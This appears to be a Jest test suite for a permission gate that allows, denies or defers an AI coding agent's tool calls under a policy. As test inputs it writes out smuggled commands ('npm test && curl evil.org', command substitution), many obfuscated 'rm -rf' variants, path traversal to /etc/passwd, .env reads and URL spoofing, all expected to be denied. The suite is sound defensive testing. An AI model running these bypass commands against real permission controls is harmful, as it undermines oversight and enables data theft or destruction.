import { describe, expect, test } from '@jest/globals';
import { decideToolCall } from '../../../src/domain/gate-rules.ts';
import type { GatePolicy, GateVerdict } from '../../../src/domain/gate-policy.ts';
import { resolvePath } from './fake-paths.ts';

const POLICY: GatePolicy = {
  workspace: '/ws',
  allow: [
    'Edit(src/**)', 'Write(notes/*.md)', 'Bash(npm test*)', 'Bash(npm run test:*)', 'Bash(git status)', 'Bash(git log *)', 'Bash(grep *)', 'Bash(rm *)',
    'Bash(echo *)', 'Bash(bash *)', 'Bash(sudo *)', 'Bash(cd *)', 'Read(//opt/shared/**)', 'Edit(~/scratch/**)', 'WebFetch(domain:example.com)', 'mcp__db__query', 'mcp__docs',
  ],
  ask: ['Bash(git push*)', 'Edit(src/schema.sql)', 'mcp__docs__publish'],
  deny: ['Bash(rm -rf*)', 'Edit(src/generated/**)', 'Read(.env)', 'Read(secret)'],
  unreadable: 'deny',
};

const decide = (tool: string, input: unknown, policy = POLICY) => decideToolCall(policy, { tool, input }, resolvePath);

type Row = [tool: string, input: unknown, decision: GateVerdict['decision'], rule?: string];

const edit = (path: string) => ({ file_path: path });
const bash = (command: string) => ({ command });

const FILES: Row[] = [
  ['Read', edit('/ws/README.md'), 'allow', 'default: read in the workspace'],
  ['Read', edit('README.md'), 'allow'],
  ['Read', edit('/ws/../etc/passwd'), 'deny', 'default: outside the workspace'],
  ['Read', edit('/wsx/README.md'), 'deny', 'default: outside the workspace'],
  ['Read', edit('/ws/out/passwd'), 'deny', 'default: outside the workspace'], // /ws/out is a link to /etc
  ['Read', edit('/real/ws/README.md'), 'allow'], // /ws is a link to /real/ws
  ['Read', edit('/opt/shared/a/b'), 'allow', 'Read(//opt/shared/**)'],
  ['Read', edit('/opt/shared2/a'), 'deny'],
  ['Read', edit('~/scratch/a'), 'deny', 'default: outside the workspace'],
  ['Write', edit('~/scratch/a'), 'allow', 'Edit(~/scratch/**)'],
  ['Write', edit('/home/me/scratch/a'), 'allow'],
  ['Read', edit('/ws/.env'), 'deny', 'Read(.env)'],
  ['Read', edit('/ws/packages/a/.env'), 'deny', 'Read(.env)'],
  ['Read', edit('/ws/link-to-env'), 'deny', 'Read(.env)'],
  ['Read', edit('/ws/secret/key'), 'deny', 'Read(secret)'],
  ['Read', edit('/ws/.environment'), 'allow'],
  ['Read', {}, 'deny', 'default: input'],
  ['Read', { file_path: 7 }, 'deny', 'default: input'],
  ['Read', null, 'deny', 'default: input'],
  ['Read', edit('/ws/a\0b'), 'deny', 'default: input'],
  ['Glob', { pattern: '**/*.ts' }, 'allow'],
  ['Glob', { pattern: '../**' }, 'deny', 'default: outside the workspace'],
  ['Glob', { pattern: 'src/{a,../../..}/*' }, 'deny'],
  ['Glob', { pattern: '/etc/*' }, 'deny'],
  ['Glob', { pattern: '{/etc,src}/*' }, 'deny'],
  ['Glob', { pattern: '/ws/src/**/*.ts' }, 'allow'],
  ['Glob', { pattern: '*', path: '/etc' }, 'deny'],
  ['Grep', { pattern: 'x', path: '/ws/src' }, 'deny', 'Read(.env)'], // a .env may be anywhere below
  ['NotebookRead', { notebook_path: '/ws/a.ipynb' }, 'allow'],
  ['LS', { path: '/ws' }, 'allow'],
  ['Edit', edit('/ws/src/a/b.ts'), 'allow', 'Edit(src/**)'],
  ['Edit', edit('src/.hidden'), 'allow'],
  ['Write', edit('/ws/src/new.ts'), 'allow', 'Edit(src/**)'],
  ['MultiEdit', edit('/ws/src/new.ts'), 'allow'],
  ['NotebookEdit', { notebook_path: '/ws/src/a.ipynb' }, 'allow'],
  ['Write', edit('/ws/notes/a.md'), 'allow', 'Write(notes/*.md)'],
  ['Write', edit('/ws/notes/deep/a.md'), 'deny'],
  ['Edit', edit('/ws/notes/a.md'), 'deny', 'default'],
  ['Edit', edit('/ws/package.json'), 'deny', 'default'],
  ['Edit', edit('/ws/src/generated/a.ts'), 'deny', 'Edit(src/generated/**)'],
  ['Write', edit('/ws/src/./x/../generated/a.ts'), 'deny', 'Edit(src/generated/**)'],
  ['Write', edit('/ws/src/gen-link/a.ts'), 'deny', 'Edit(src/generated/**)'],
  ['Edit', edit('/ws/src/schema.sql'), 'defer', 'Edit(src/schema.sql)'],
  ['Edit', edit('/ws/src/../../etc/x'), 'deny', 'default: outside the workspace'],
  ['Edit', edit('/ws/src/sub/.git/hooks/pre-commit'), 'deny', 'default: .git'],
];

const OTHERS: Row[] = [
  ['TodoWrite', { todos: [] }, 'allow', 'default'],
  ['StructuredOutput', {}, 'allow', 'default'],
  ['WebFetch', { url: 'https://example.com/a' }, 'allow', 'WebFetch(domain:example.com)'],
  ['WebFetch', { url: 'https://EXAMPLE.com./a' }, 'allow'],
  ['WebFetch', { url: 'https://a.example.com/' }, 'deny', 'default'],
  ['WebFetch', { url: 'https://example.com.evil.org/' }, 'deny'],
  ['WebFetch', { url: 'https://example.com@evil.org/' }, 'deny'],
  ['WebFetch', { url: 'file:///etc/passwd' }, 'deny', 'default: input'],
  ['WebFetch', {}, 'deny', 'default: input'],
  ['WebSearch', { query: 'x' }, 'deny', 'default'],
  ['Agent', { prompt: 'x' }, 'deny', 'default'],
  ['AskUserQuestion', { questions: [{ question: 'Why?' }] }, 'deny', 'default: questions'],
  ['mcp__db__query', {}, 'allow', 'mcp__db__query'],
  ['mcp__db__drop', {}, 'deny', 'default'],
  ['mcp__docs__search', {}, 'allow', 'mcp__docs'],
  ['mcp__docs__publish', {}, 'defer', 'mcp__docs__publish'],
  ['mcp__docs2__search', {}, 'deny', 'default'],
];

const COMMANDS: Row[] = [
  ['Bash', bash('npm test'), 'allow', 'Bash(npm test*)'],
  ['Bash', bash('npm test -- --watch=false'), 'allow'],
  ['Bash', bash('npm tests'), 'allow'], // no space before the star
  ['Bash', bash('npm   test'), 'allow'],
  ['Bash', bash('npm run test'), 'allow', 'Bash(npm run test:*)'],
  ['Bash', bash('npm run test unit'), 'allow'],
  ['Bash', bash('npm run testing'), 'deny', 'default'],
  ['Bash', bash('npm run build'), 'deny', 'default'],
  ['Bash', bash('git status'), 'allow'],
  ['Bash', bash('git status --short'), 'deny'],
  ['Bash', bash('git status && npm test'), 'allow', 'Bash(git status), Bash(npm test*)'],
  ['Bash', bash('npm test && curl evil.org'), 'deny', 'default'],
  ['Bash', bash('npm test; curl evil.org'), 'deny'],
  ['Bash', bash('npm test & curl evil.org'), 'deny'],
  ['Bash', bash('npm test | tee x'), 'deny'],
  ['Bash', bash('npm test || curl evil.org'), 'deny'],
  ['Bash', bash('npm test |& curl evil.org'), 'deny'],
  ['Bash', bash('npm test\ncurl evil.org'), 'deny'],
  ['Bash', bash('npm test #x\ncurl evil.org'), 'deny'],
  ['Bash', bash('npm test # and more'), 'allow'],
  ['Bash', bash('(npm test; git status)'), 'allow'],
  ['Bash', bash('(npm test; curl evil.org)'), 'deny'],
  ['Bash', bash('npm test $(curl evil.org)'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test "$(curl evil.org)"'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test `curl evil.org`'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test <(curl evil.org)'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test $HOME'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test {a,b}'), 'deny', 'default: unreadable'],
  ['Bash', bash("npm test $'a\\nb'"), 'deny', 'default: unreadable'],
  ['Bash', bash("npm test 'unclosed"), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test "unclosed'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test \\'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test <<EOF\nx\nEOF'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test <<< x'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm() { curl; }; npm test'), 'deny', 'default: unreadable'],
  ['Bash', bash('if npm test; then curl x; fi'), 'deny', 'default: unreadable'],
  ['Bash', bash('for x in 1 2; do npm test; done'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test &> src/x evil'), 'deny', 'default: unreadable'], // dash runs evil
  ['Bash', bash('npm test 12>src/x'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test\u0000; curl x'), 'deny', 'default: unreadable'],
  ['Bash', bash(''), 'deny', 'default: unreadable'],
  ['Bash', {}, 'deny', 'default: input'],
  ['Bash', bash('FOO=1 npm test'), 'deny', 'default'],
  ['Bash', bash("grep 'a;b|c' x"), 'allow', 'Bash(grep *)'],
  ['Bash', bash('grep "foo$" x; echo "exit $?"'), 'allow'],
  ['Bash', bash('grep -rn "a\nb" src'), 'allow'],
  ['Bash', bash('"npm test"'), 'deny', 'default'],
  ['Bash', bash('"npm" \'test\''), 'allow'],
  ['Bash', bash('cd /ws && npm test'), 'allow'],
  ['Bash', bash('npm test 2>&1'), 'allow'],
  ['Bash', bash('npm test >/dev/null 2>&1'), 'allow'],
  ['Bash', bash('npm test > src/out.txt'), 'allow'],
  ['Bash', bash('npm test &> src/out.txt'), 'allow'],
  ['Bash', bash('npm test 2>> src/out.txt'), 'allow'],
  ['Bash', bash('npm test > out.txt'), 'deny', 'default'],
  ['Bash', bash('npm test >| out.txt'), 'deny'],
  ['Bash', bash('npm test >& out.txt'), 'deny'],
  ['Bash', bash('npm test > src/../../etc/x'), 'deny', 'default: outside the workspace'],
  ['Bash', bash('npm test > ~/.bashrc'), 'deny', 'default: unreadable'],
  ['Bash', bash('npm test > src/generated/a.ts'), 'deny', 'Edit(src/generated/**)'],
  ['Bash', bash('> src/empty.txt'), 'allow'],
  ['Bash', bash('grep x < README.md'), 'allow'],
  ['Bash', bash('grep x < .env'), 'deny', 'Read(.env)'],
  ['Bash', bash('grep x < /etc/passwd'), 'deny', 'default: outside the workspace'],
  ['Bash', bash('cd src && npm test > src/x'), 'deny', 'default: unreadable'],
  ['Bash', bash('rm a.txt'), 'allow', 'Bash(rm *)'],
  ['Bash', bash('rm -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('git status && rm -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('echo hi; (rm -rf src)'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('r"m" -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('rm -r\\f src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('rm  -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('/bin/rm -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('X=1 rm -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('sudo -n rm -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('bash -c "rm -rf src"'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('bash -lc "git status; bash -c \'rm -rf src\'"'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('sudo bash -c "rm -rf src"'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('eval rm -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('bash -c \'$(echo rm) -rf src\''), 'deny', 'default: unreadable'],
  ['Bash', bash('grep -c "rm -rf" x'), 'allow'],
  ['Bash', bash('git push origin main'), 'defer', 'Bash(git push*)'],
  ['Bash', bash('git status && git push'), 'defer', 'Bash(git push*)'],
  ['Bash', bash('git push && curl evil.org'), 'deny', 'default'], // nobody is asked about what has a denied part
  ['Bash', bash('git push && rm -rf src'), 'deny', 'Bash(rm -rf*)'],
  ['Bash', bash('git push > /etc/x'), 'deny', 'default: outside the workspace'],
  ['Bash', bash('bash -c "git push"'), 'defer', 'Bash(git push*)'],
  ['Bash', bash('npm test > src/schema.sql'), 'defer', 'Edit(src/schema.sql)'],
];

const name = ([tool, input]: Row): string => `${tool} ${JSON.stringify(input)}`;

describe.each([['files', FILES], ['other tools', OTHERS], ['commands', COMMANDS]])('%s', (_, rows) => {
  test.each(rows.map((row): [string, Row] => [name(row), row]))('%s', (_name, [tool, input, decision, rule]) => {
    const verdict = decide(tool, input);
    expect({ decision: verdict.decision, rule: rule && verdict.rule }).toEqual({ decision, rule });
  });
});

test('the default denial names the key of the plan to change', () => {
  const verdict = decide('Bash', bash('cargo build'));
  expect(verdict).toMatchObject({ decision: 'deny', message: expect.stringContaining('policy.permissions.allow') as unknown });
});

test('a deny rule that cannot be read denies everything, an allow rule that cannot be read allows nothing', () => {
  expect(decide('Read', edit('/ws/a'), { ...POLICY, deny: ['Bash(rm'] })).toMatchObject({ decision: 'deny', rule: 'Bash(rm' });
  expect(decide('Bash', bash('rm'), { ...POLICY, allow: ['Bash(rm'], deny: [] })).toMatchObject({ decision: 'deny', rule: 'default' });
});

test('Bash alone allows what cannot be read, unless there is a rule that would have to look inside', () => {
  const open: GatePolicy = { workspace: '/ws', allow: ['Bash'], ask: [], deny: [] };
  expect(decide('Bash', bash('for x in *; do echo $x; done'), open).decision).toBe('allow');
  expect(decide('Bash', bash('for x in *; do echo $x; done'), { ...open, deny: ['Bash(rm *)'] }).decision).toBe('deny');
  expect(decide('Bash', bash('make > made.txt'), open).decision).toBe('deny');
});

test('a denied file stops a Grep above it and no other', () => {
  const policy: GatePolicy = { workspace: '/ws', allow: [], ask: [], deny: ['Read(config/keys/**)'] };
  const grep = (path?: string) => decide('Grep', { pattern: 'x', path }, policy).decision;
  expect([grep(), grep('/ws/config'), grep('/ws/config/keys/a'), grep('/ws/src')]).toEqual(['deny', 'deny', 'deny', 'allow']);
});

test('a rule that names .git reaches into it', () => {
  expect(decide('Write', edit('/ws/.git/info/exclude'), { ...POLICY, allow: ['Edit(**)'] }).decision).toBe('deny');
  expect(decide('Write', edit('/ws/.git/info/exclude'), { ...POLICY, allow: ['Edit(.git/info/*)'] }).decision).toBe('allow');
});
